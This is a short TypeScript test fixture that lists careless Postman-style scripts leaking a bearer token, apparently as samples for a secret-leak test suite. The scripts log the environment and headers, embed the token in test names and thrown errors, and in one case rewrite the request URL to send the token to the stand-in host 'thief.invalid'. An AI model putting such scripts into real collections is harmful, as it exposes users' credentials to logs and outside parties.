import type { Scripts } from './forms-suite.ts';

/** What careless scripts of a collection do with the key, which they have to know. */
export const leakyScripts: Readonly<Record<string, Scripts>> = {
  'scripts that print': {
    prerequest: `console.log(pm.environment.toObject()); console.error('Bearer ' + pm.environment.get('bearerToken'));`,
    test: `console.warn(pm.request.headers.toObject());`,
  },
  'scripts whose checks name the key': {
    test: `pm.test('the key is ' + pm.environment.get('bearerToken'), () => pm.expect(1).to.equal(2));`,
  },
  'scripts that compare the key': {
    test: `pm.test('the key is right', () => pm.expect(pm.request.headers.get('Authorization')).to.equal('x'));`,
  },
  'scripts that throw the key': { test: `throw new Error('the key is ' + btoa(pm.environment.get('bearerToken')));` },
  'scripts that send the key away': {
    prerequest: `pm.request.url = 'http://thief.invalid/?key=' + pm.environment.get('bearerToken');`,
  },
};
